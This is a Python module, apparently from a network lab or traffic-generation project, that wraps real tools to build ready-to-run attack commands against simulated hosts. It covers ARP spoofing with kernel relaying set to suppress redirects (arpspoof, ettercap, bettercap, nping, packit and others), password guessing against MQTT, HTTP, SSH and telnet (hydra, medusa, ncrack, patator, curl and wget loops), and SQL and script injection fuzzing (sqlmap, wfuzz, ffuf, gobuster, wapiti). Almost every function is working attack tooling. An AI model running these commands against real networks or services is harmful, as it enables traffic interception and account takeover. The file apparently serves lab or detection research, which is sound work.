"""ARP spoofing, password guessing, SQL and script injection."""

from __future__ import annotations

from pathlib import Path
from urllib.parse import quote

from wirespeak.lab.attacks.guess import words as guesses
from wirespeak.lab.attacks.inject import SQLI, XSS, payloads
from wirespeak.lab.attacks.tool import Strike, own, tool
from wirespeak.lab.world import Host

_SETTINGS = "/proc/sys/net/ipv4"
_RELAY = (
    f"echo 1 >{_SETTINGS}/ip_forward; for i in all eth0; do echo 0 >{_SETTINGS}/conf/$i/send_redirects; done"
)


@tool("spoof.arp", reach="mac")
def own_arp_spoof(
    s: Strike, *, interval: float = 1.0, both: bool = True, request: bool = False, gratuitous: bool = False
) -> list[str]:
    """Tell the target (and with `both` the gateway) that the other is here; relay what arrives."""
    gateway = s.world.host("gateway")
    return own(
        "packets",
        "arp_spoof",
        mac=s.attacker.mac,
        one=[s.target.address, s.target.mac],
        other=[gateway.address, gateway.mac],
        interval=max(0.2, interval),
        both=both,
        request=request,
        gratuitous=gratuitous,
        seconds=s.seconds,
    )


@tool("spoof.arp", package="dsniff", reach="mac")
def arpspoof(s: Strike, *, both: bool = True) -> list[str]:
    """dsniff's arpspoof, with the kernel as relay, which is told not to give the game away by redirects."""
    return [
        "sh",
        "-c",
        f"{_RELAY}; exec timeout -s INT {int(s.seconds)} arpspoof -i eth0 -t {s.address} {'-r ' if both else ''}{s.world.host('gateway').address} 2>/dev/null",
    ]


@tool("spoof.arp", package="ettercap-text-only", reach="mac")
def ettercap(s: Strike, *, one_way: bool = False) -> list[str]:
    """ettercap between the target and the gateway, told who they are instead of sweeping for them."""
    ends = (s.target, s.world.host("gateway"))
    known = s.list_file("hosts", [f"{host.address} {host.mac} -" for host in ends])
    return [
        "timeout",
        "-s",
        "INT",
        str(int(s.seconds)),
        "ettercap",
        "-T",
        "-q",
        "-z",
        "-j",
        known,
        "-i",
        "eth0",
        "-M",
        "arp:oneway" if one_way else "arp:remote",
        *(f"/{host.address}//" for host in ends),
    ]


@tool("spoof.arp", package="nmap", reach="mac")
def nping_arp(s: Strike, *, rate: float = 1.0) -> list[str]:
    """nping's ARP replies in the gateway's name to the target, with the kernel as relay."""
    gateway = s.world.host("gateway")
    lie = f"--arp-type ARP-reply --arp-sender-ip {gateway.address} --arp-sender-mac {s.attacker.mac}"
    ends = f"--arp-target-ip {s.address} --arp-target-mac {s.target.mac} --dest-mac {s.target.mac}"
    count = max(1, int(s.seconds * rate))
    return [
        "sh",
        "-c",
        f"{_RELAY}; exec nping --arp {lie} {ends} --delay {1000 / rate:g}ms -c {count} -q -N {s.address}",
    ]


@tool("brute_force")
def own_mqtt_guess(
    s: Strike, *, rate: float = 8.0, workers: int = 4, port: int = 1883, users: int = 1
) -> list[str]:
    """Password after password at the broker."""
    return own(
        "guess",
        "mqtt_guess",
        target=s.address,
        port=port,
        rate=min(rate, 200),
        workers=workers,
        users=users,
        seconds=s.seconds,
        seed=s.random.getrandbits(32),
    )


@tool("brute_force")
def own_http_guess(
    s: Strike, *, rate: float = 8.0, workers: int = 4, form: bool = True, keep: bool = False, port: int = 80
) -> list[str]:
    """Password after password at the login form, or with form = false by basic authentication."""
    return own(
        "guess",
        "http_guess",
        target=s.address,
        port=port,
        rate=min(rate, 200),
        workers=workers,
        form=form,
        keep=keep,
        seconds=s.seconds,
        seed=s.random.getrandbits(32),
    )


@tool("brute_force")
def own_telnet_guess(s: Strike, *, rate: float = 4.0, workers: int = 3, port: int = 23) -> list[str]:
    """Password after password at a telnet prompt."""
    return own(
        "guess",
        "telnet_guess",
        target=s.address,
        port=port,
        rate=min(rate, 100),
        workers=workers,
        seconds=s.seconds,
        seed=s.random.getrandbits(32),
    )


@tool("brute_force", package="hydra")
def hydra(
    s: Strike, *, form: bool = False, service: str = "http", tasks: int = 4, words: int = 150
) -> list[str]:
    """hydra on the login form, on basic authentication, or with service "ssh" or "telnet" on a prompt."""
    listed = s.list_file("words", guesses(s.random, min(words, 600)))
    where = {"http": ["http-get", "/admin"], "ssh": ["ssh"], "telnet": ["telnet"]}[service]
    if form:
        where = ["http-post-form", "/login:user=^USER^&password=^PASS^:wrong name"]
    return ["hydra", "-q", "-I", "-l", "admin", "-P", listed, "-t", str(tasks), s.address, *where]


@tool("brute_force", package="dropbear-bin")
def dbclient_guess(s: Strike, *, words: int = 60, pause: float = 0.2) -> list[str]:
    """A loop of dbclient over a word list: one SSH connection a password."""
    listed = s.list_file("words", guesses(s.random, min(words, 600)))
    one = f'DROPBEAR_PASSWORD="$w" dbclient -y -y -T admin@{s.address} id </dev/null >/dev/null 2>&1'
    return [
        "sh",
        "-c",
        f"end=$(($(date +%s)+{int(s.seconds)})); while read -r w && [ $(date +%s) -lt $end ]; do {one}; sleep {pause}; done <{listed}",
    ]


@tool("brute_force", package="sshpass")
def openssh_guess(
    s: Strike, *, words: int = 60, parallel: int = 1, exchange: str = "curve25519-sha256", pause: float = 0.1
) -> list[str]:
    """OpenSSH's client in a loop over a word list, `parallel` at once: one connection a password."""
    listed = s.list_file("words", guesses(s.random, min(words, 600)))
    settings = {
        "StrictHostKeyChecking": "no",
        "UserKnownHostsFile": "/dev/null",
        "PubkeyAuthentication": "no",
        "NumberOfPasswordPrompts": "1",
        "ConnectTimeout": "5",
        "KexAlgorithms": exchange,
    }
    options = " ".join(f"-o {name}={value}" for name, value in settings.items())
    one = f'sleep {pause}; sshpass -p "$1" ssh {options} admin@{s.address} true </dev/null >/dev/null 2>&1; true'
    return [
        "timeout",
        str(int(s.seconds)),
        *("xargs", "-a", listed, "-P", str(min(parallel, 8)), "-n", "1", "sh", "-c", one, "guess"),
    ]


@tool("brute_force", package="medusa")
def medusa(s: Strike, *, service: str = "http", words: int = 100, tasks: int = 3) -> list[str]:
    """medusa on basic authentication, or with service "ssh" or "telnet" on a prompt."""
    listed = s.list_file("words", guesses(s.random, min(words, 600)))
    where = {"http": ["-M", "http", "-m", "DIR:admin"], "ssh": ["-M", "ssh"], "telnet": ["-M", "telnet"]}[
        service
    ]
    return ["medusa", "-h", s.address, "-u", "admin", "-P", listed, "-t", str(tasks), *where]


@tool("brute_force", package="ncrack")
def ncrack(s: Strike, *, service: str = "http", words: int = 120, connections: int = 6) -> list[str]:
    """ncrack on HTTP basic authentication, MQTT, SSH or telnet."""
    listed = s.list_file("words", guesses(s.random, min(words, 600)))
    port = {"http": "80,path=/admin", "mqtt": "1883", "ssh": "22", "telnet": "23"}[service]
    target = f"{service}://{s.address}:{port}"
    return [
        "ncrack",
        "--user",
        "admin",
        "-P",
        listed,
        "-g",
        f"CL={connections},cd=50ms,to={int(s.seconds)}s",
        target,
    ]


@tool("brute_force", package="nmap")
def nmap_brute(s: Strike, *, service: str = "http", words: int = 150, threads: int = 4) -> list[str]:
    """nmap's scripts for basic authentication, or with service "telnet" or "ssh" for a prompt."""
    listed = s.list_file("words", guesses(s.random, min(words, 600)))
    users = s.list_file("users", ["admin"])
    port, more = {"http": ("80", ",http-brute.path=/admin"), "telnet": ("23", ""), "ssh": ("22", "")}[service]
    given = f"userdb={users},passdb={listed},brute.threads={threads},brute.start={threads}{more}"
    script = ["--script", f"{service}-brute", "--script-args", given]
    return ["nmap", "-n", "-Pn", "-sT", f"-p{port}", *script, s.address]


@tool("brute_force", package="mosquitto-clients")
def mosquitto_sub_guess(s: Strike, *, words: int = 200, pause: float = 0.05) -> list[str]:
    """A loop of mosquitto_sub over a word list."""
    listed = s.list_file("words", guesses(s.random, min(words, 600)))
    return [
        "sh",
        "-c",
        f"end=$(($(date +%s)+{int(s.seconds)})); while read -r w && [ $(date +%s) -lt $end ]; do mosquitto_sub -h {s.address} -u admin -P \"$w\" -t '#' -C 1 -W 1 >/dev/null 2>&1; sleep {pause}; done <{listed}",
    ]


@tool("web.sqli")
def own_sqli(
    s: Strike,
    *,
    rate: float = 4.0,
    families: str = "tautology union error",
    encodings: str = "percent plus",
    post: bool = False,
    keep: bool = False,
) -> list[str]:
    """Statements in parameters: families and encodings of `inject.py`."""
    return own(
        "inject",
        "attack",
        target=s.address,
        kind="sqli",
        families=families.split(),
        encodings=encodings.split(),
        rate=min(rate, 50),
        post=post,
        keep=keep,
        seconds=s.seconds,
        seed=s.random.getrandbits(32),
    )


@tool("web.sqli", package="sqlmap")
def sqlmap(
    s: Strike, *, level: int = 1, post: bool = False, technique: str = "BEU", tamper: str = ""
) -> list[str]:
    """sqlmap on the item page. technique, tamper: as sqlmap names them."""
    where = (
        ["-u", f"http://{s.address}/item", "--data", "id=1"]
        if post
        else ["-u", f"http://{s.address}/item?id=1"]
    )
    return [
        "sqlmap",
        *where,
        "--batch",
        f"--level={level}",
        "--risk=1",
        "--threads=1",
        f"--technique={technique}",
        *([f"--tamper={tamper}"] if tamper else []),
        "--flush-session",
        "--disable-coloring",
        f"--output-dir={s.world.folder}/sqlmap",
    ]


@tool("web.xss")
def own_xss(
    s: Strike,
    *,
    rate: float = 4.0,
    families: str = "tag event",
    encodings: str = "percent plus",
    post: bool = False,
    keep: bool = False,
) -> list[str]:
    """Scripts in parameters and comments: families and encodings of `inject.py`."""
    return own(
        "inject",
        "attack",
        target=s.address,
        kind="xss",
        families=families.split(),
        encodings=encodings.split(),
        rate=min(rate, 50),
        post=post,
        keep=keep,
        seconds=s.seconds,
        seed=s.random.getrandbits(32),
    )


def _wfuzz(s: Strike, listed: str, *, pause: float, clients: int, post: bool) -> list[str]:
    """Every line of one of wfuzz's own lists, in a parameter of the item page or of the search form."""
    words = ["-z", f"file,/usr/share/wfuzz/wordlist/Injections/{listed}"]
    pace = ["-s", f"{pause:g}", "-t", str(clients), "-H", "Connection: close"]
    where = (
        ["-d", "text=FUZZ&name=x", f"http://{s.address}/comments"]
        if post
        else [f"http://{s.address}/item?id=FUZZ"]
    )
    return ["wfuzz", *words, *pace, *where]


@tool("web.sqli", package="wfuzz")
def wfuzz_sqli(s: Strike, *, pause: float = 0.2, clients: int = 2, post: bool = False) -> list[str]:
    """wfuzz with its list of SQL injections."""
    return _wfuzz(s, "SQL.txt", pause=pause, clients=clients, post=post)


@tool("web.xss", package="wfuzz")
def wfuzz_xss(s: Strike, *, pause: float = 0.2, clients: int = 2, post: bool = False) -> list[str]:
    """wfuzz with its list of script injections."""
    return _wfuzz(s, "XSS.txt", pause=pause, clients=clients, post=post)


@tool("web.sqli", package="ffuf")
def ffuf_sqli(s: Strike, *, rate: float = 5.0) -> list[str]:
    """ffuf with a list of SQL injections that wfuzz brings."""
    listed = "/usr/share/wfuzz/wordlist/vulns/sql_inj.txt"
    return [
        "ffuf",
        "-s",
        "-w",
        listed,
        "-p",
        f"{2 / rate:g}",
        "-t",
        "2",
        "-u",
        f"http://{s.address}/item?id=FUZZ",
    ]


@tool("spoof.arp", package="packit", reach="mac")
def packit_arp(s: Strike, *, both: bool = False, request: bool = False) -> list[str]:
    """packit's ARP replies, or with `request` questions, one a second to the target and with `both` to the gateway."""
    ends = (s.target, s.world.host("gateway"))

    def lie(told: Host, other: Host) -> str:
        sender = f"-x {other.address} -X {s.attacker.mac} -e {s.attacker.mac}"
        target = f"-y {told.address} -Y {told.mac} -E {told.mac}"
        operation = 1 if request else 2
        return f"packit -t ARP -A {operation} -i eth0 {sender} {target} -c {int(s.seconds)} -b 1 -w 1"

    told = [lie(*ends), lie(*ends[::-1])] if both else [lie(*ends)]
    return ["sh", "-c", f"{_RELAY}; {' & '.join(told)} & wait"]


@tool("spoof.arp", package="bettercap", reach="mac")
def bettercap(s: Strike, *, both: bool = True) -> list[str]:
    """bettercap between the target and the gateway, told who they are instead of sweeping for them.

    It would ask the machine's own name server who everybody is: it sees a machine that has none.
    """
    gateway = s.world.host("gateway")
    known = "; ".join(
        f"ip neigh replace {host.address} lladdr {host.mac} dev eth0" for host in (s.target, gateway)
    )
    orders = f"set arp.spoof.targets {s.address}; set arp.spoof.fullduplex {str(both).lower()}; arp.spoof on"
    run = f"bettercap -iface eth0 -gateway-override {gateway.address} -no-colors -no-history -eval '{orders}'"
    timed = f"sleep {int(s.seconds)} | timeout -s INT {int(s.seconds)} {run}"
    nameless = "mount --bind /dev/null /etc/resolv.conf"
    return ["unshare", "--mount", "sh", "-c", f"{_RELAY}; {nameless}; {known}; {timed}"]


@tool("brute_force", package="patator")
def patator(
    s: Strike, *, service: str = "http", words: int = 100, threads: int = 3, pause: float = 0.0
) -> list[str]:
    """patator on basic authentication, or with service "ssh" or "telnet" on a prompt: a connection for each word."""
    listed = s.list_file("words", guesses(s.random, min(words, 600)))
    where = {
        "http": [
            "http_fuzz",
            f"url=http://{s.address}/admin",
            f"resolve=hub:{s.address}",
            "user_pass=admin:FILE0",
        ],
        "ssh": ["ssh_login", f"host={s.address}", "user=admin", "password=FILE0"],
        "telnet": ["telnet_login", f"host={s.address}", "inputs=admin\\nFILE0", "prompt_re=ogin:|assword:"],
    }[service]
    return ["patator", *where, "persistent=0", f"0={listed}", "-t", str(threads), f"--rate-limit={pause:g}"]


def _wapiti(s: Strike, modules: str, *pages: str, keep: bool) -> list[str]:
    """The pages are named to it, since ours have no links to follow; so is an empty list of known software, which it
    would download."""
    folder = Path(s.world.folder) / f"wapiti-{s.attacker.name}"
    folder.mkdir(exist_ok=True)
    (folder / "apps.json").write_text('{"technologies": {}, "categories": {}}')
    first, *more = (f"http://{s.address}{page}" for page in pages)
    starts = [word for page in more for word in ("-s", page)]
    where = ["-u", first, *starts, "--scope", "domain", "-d", "1"]
    time = ["-t", "3", "--max-scan-time", "10", "--max-attack-time", str(int(s.seconds))]
    kept = ["--store-config", str(folder), "--store-session", str(folder), "-o", str(folder / "report.json")]
    said = ["-f", "json", "-v", "1", "--no-bugreport", *([] if keep else ["-H", "Connection: close"])]
    return ["wapiti", *where, "-m", modules, *time, *kept, *said]


@tool("web.sqli", package="wapiti")
def wapiti_sqli(s: Strike, *, modules: str = "sql,blindsql", keep: bool = False) -> list[str]:
    """wapiti's modules for SQL injection on the pages with parameters."""
    pages = ("/item?id=1", "/search?q=lamp", "/api/items?filter=on&sort=name", "/collect?name=me&id=4")
    return _wapiti(s, modules, *pages, keep=keep)


@tool("web.xss", package="wapiti")
def wapiti_xss(s: Strike, *, modules: str = "xss", keep: bool = False) -> list[str]:
    """wapiti's modules for script injection on the pages with parameters."""
    pages = ("/search?q=lamp", "/comments?text=hello&name=me", "/item?id=1")
    return _wapiti(s, modules, *pages, keep=keep)


def _patator(s: Strike, listed: str, *, pause: float, post: bool) -> list[str]:
    """Every line of one of wfuzz's lists, in a parameter of the item page or of the comments."""
    page = [f"url=http://{s.address}/{'comments' if post else 'item?id=FILE0'}", f"resolve=hub:{s.address}"]
    body = ["method=POST", "body=text=FILE0&name=x"] if post else []
    pace = ["-t", "2", f"--rate-limit={pause:g}"]
    return [
        "patator",
        "http_fuzz",
        *page,
        *body,
        "persistent=0",
        f"0=/usr/share/wfuzz/wordlist/{listed}",
        *pace,
    ]


@tool("web.sqli", package="patator")
def patator_sqli(s: Strike, *, pause: float = 0.4, post: bool = False) -> list[str]:
    """patator with a list of SQL injections that wfuzz brings."""
    return _patator(s, "vulns/sql_inj.txt", pause=pause, post=post)


@tool("web.xss", package="patator")
def patator_xss(s: Strike, *, pause: float = 0.4, post: bool = False) -> list[str]:
    """patator with a list of script injections that wfuzz brings."""
    return _patator(s, "Injections/XSS.txt", pause=pause, post=post)


@tool("spoof.arp", package="arping", reach="mac")
def arping_spoof(s: Strike, *, interval: float = 1.0, both: bool = False) -> list[str]:
    """arping's unsolicited replies in the gateway's name to the target, and with `both` the other way round."""
    ends = (s.target, s.world.host("gateway"))
    pace = f"-c {max(1, int(s.seconds / interval))} -W {interval:g}"

    def lie(told: Host, other: Host) -> str:
        return f"arping -q -U -P -i eth0 {pace} -S {other.address} -t {told.mac} {told.address}"

    told = [lie(*ends), lie(*ends[::-1])] if both else [lie(*ends)]
    return ["sh", "-c", f"{_RELAY}; {' & '.join(told)} & wait"]


@tool("spoof.arp", package="netwox", reach="mac")
def netwox_arp(s: Strike, *, pause_ms: int = 1000) -> list[str]:
    """netwox's periodic replies in the gateway's name to the target."""
    lie = f"--eth {s.attacker.mac} --ip {s.world.host('gateway').address}"
    ends = f"--eth-dst {s.target.mac} --ip-dst {s.address} --device Eth0 --sleep {max(200, pause_ms)}"
    return ["sh", "-c", f"{_RELAY}; exec timeout {int(s.seconds)} netwox 80 {lie} {ends}"]


def _each_line(s: Strike, listed: str, one: str, *, parallel: int, pause: float) -> list[str]:
    """A shell command for each line of a file, which it finds in $1."""
    lines = ["xargs", "-a", listed, "-d", "\\n", "-P", str(min(parallel, 8)), "-n", "1"]
    command = f"sleep {pause:g}; {one} >/dev/null 2>&1; true"
    return ["timeout", str(int(s.seconds)), *lines, "sh", "-c", command, "each"]


@tool("brute_force", package="putty-tools")
def plink_guess(s: Strike, *, words: int = 60, parallel: int = 1, pause: float = 0.3) -> list[str]:
    """PuTTY's plink in a loop over a word list: one SSH connection a password."""
    listed = s.list_file("words", guesses(s.random, min(words, 600)))
    one = f'echo n | plink -ssh -pw "$1" admin@{s.address} true'
    return _each_line(s, listed, one, parallel=parallel, pause=pause)


@tool("brute_force", package="curl")
def curl_guess(
    s: Strike, *, service: str = "http", words: int = 100, parallel: int = 2, pause: float = 0.2
) -> list[str]:
    """curl in a loop over a word list, one connection a password: basic authentication, or service "form" or "ssh"."""
    listed = s.list_file("words", guesses(s.random, min(words, 600)))
    where = {
        "http": f'-u "admin:$1" http://{s.address}/admin',
        "form": f'-d user=admin --data-urlencode "password=$1" http://{s.address}/login',
        "ssh": f'-k -u "admin:$1" sftp://{s.address}/',
    }[service]
    return _each_line(s, listed, f"curl -s -m 8 {where}", parallel=parallel, pause=pause)


@tool("brute_force", package="wget")
def wget_guess(s: Strike, *, words: int = 100, parallel: int = 2, pause: float = 0.2) -> list[str]:
    """wget in a loop over a word list: one connection a password."""
    listed = s.list_file("words", guesses(s.random, min(words, 600)))
    one = f'wget -q -O - -t 1 -T 4 --auth-no-challenge --user admin --password "$1" http://{s.address}/admin'
    return _each_line(s, listed, one, parallel=parallel, pause=pause)


@tool("brute_force", package="netwox")
def netwox_guess(s: Strike, *, words: int = 150, threads: int = 2) -> list[str]:
    """netwox on basic authentication: it knows no pace, `words` bounds it."""
    listed = s.list_file("words", guesses(s.random, min(words, 600)))
    how = ["--login", "admin", "--password-file", listed, "--numthread", str(threads), "--no-verbose"]
    return ["netwox", "131", "--uri", f"http://{s.address}/admin", *how]


def _gobuster(
    s: Strike, lines: list[str], *, pause: float, clients: int, post: bool, keep: bool
) -> list[str]:
    """Every line in a parameter of the item page, or of the comments."""
    listed = s.list_file("payloads", [quote(line, safe="") for line in lines])
    form = ["-m", "POST", "-B", "text=FUZZ&name=x", "-H", "Content-Type: application/x-www-form-urlencoded"]
    where = form if post else []
    pace = [
        "--delay",
        f"{pause * 1000:.0f}ms",
        "-t",
        str(clients),
        *([] if keep else ["-H", "Connection: close"]),
    ]
    page = "comments" if post else "item?id=FUZZ"
    return ["gobuster", "fuzz", "-q", "-z", "-w", listed, *pace, *where, "-u", f"http://{s.address}/{page}"]


@tool("web.sqli", package="gobuster")
def gobuster_sqli(
    s: Strike, *, pause: float = 0.4, clients: int = 2, families: str = "case exists file", keep: bool = False
) -> list[str]:
    """gobuster with SQL injections of `inject.py`."""
    lines = payloads(SQLI, families, s.random, 150)
    return _gobuster(s, lines, pause=pause, clients=clients, post=False, keep=keep)


@tool("web.xss", package="gobuster")
def gobuster_xss(
    s: Strike,
    *,
    pause: float = 0.4,
    clients: int = 2,
    families: str = "template spelt meta",
    keep: bool = False,
) -> list[str]:
    """gobuster with script injections of `inject.py`, as comments."""
    lines = payloads(XSS, families, s.random, 150)
    return _gobuster(s, lines, pause=pause, clients=clients, post=True, keep=keep)


@tool("web.sqli", package="curl")
def curl_sqli(
    s: Strike, *, pause: float = 0.4, parallel: int = 2, families: str = "case exists file"
) -> list[str]:
    """curl in a loop over SQL injections of `inject.py`, posted to the item page."""
    listed = s.list_file("payloads", payloads(SQLI, families, s.random, 150))
    one = f'curl -s -m 4 --data-urlencode "id=$1" http://{s.address}/item'
    return _each_line(s, listed, one, parallel=parallel, pause=pause)


@tool("web.xss", package="wget")
def wget_xss(
    s: Strike, *, pause: float = 0.4, families: str = "template spelt meta", keep: bool = False
) -> list[str]:
    """wget with a list of addresses that carry script injections of `inject.py`."""
    lines = payloads(XSS, families, s.random, 150)
    pages = [f"http://{s.address}/search?q={quote(line, safe='')}" for line in lines]
    kept = [] if keep else ["--no-http-keep-alive"]
    return [
        "wget",
        "-q",
        "-O",
        "/dev/null",
        "-t",
        "1",
        "-T",
        "4",
        "-w",
        f"{pause:g}",
        *kept,
        "-i",
        s.list_file("pages", pages),
    ]
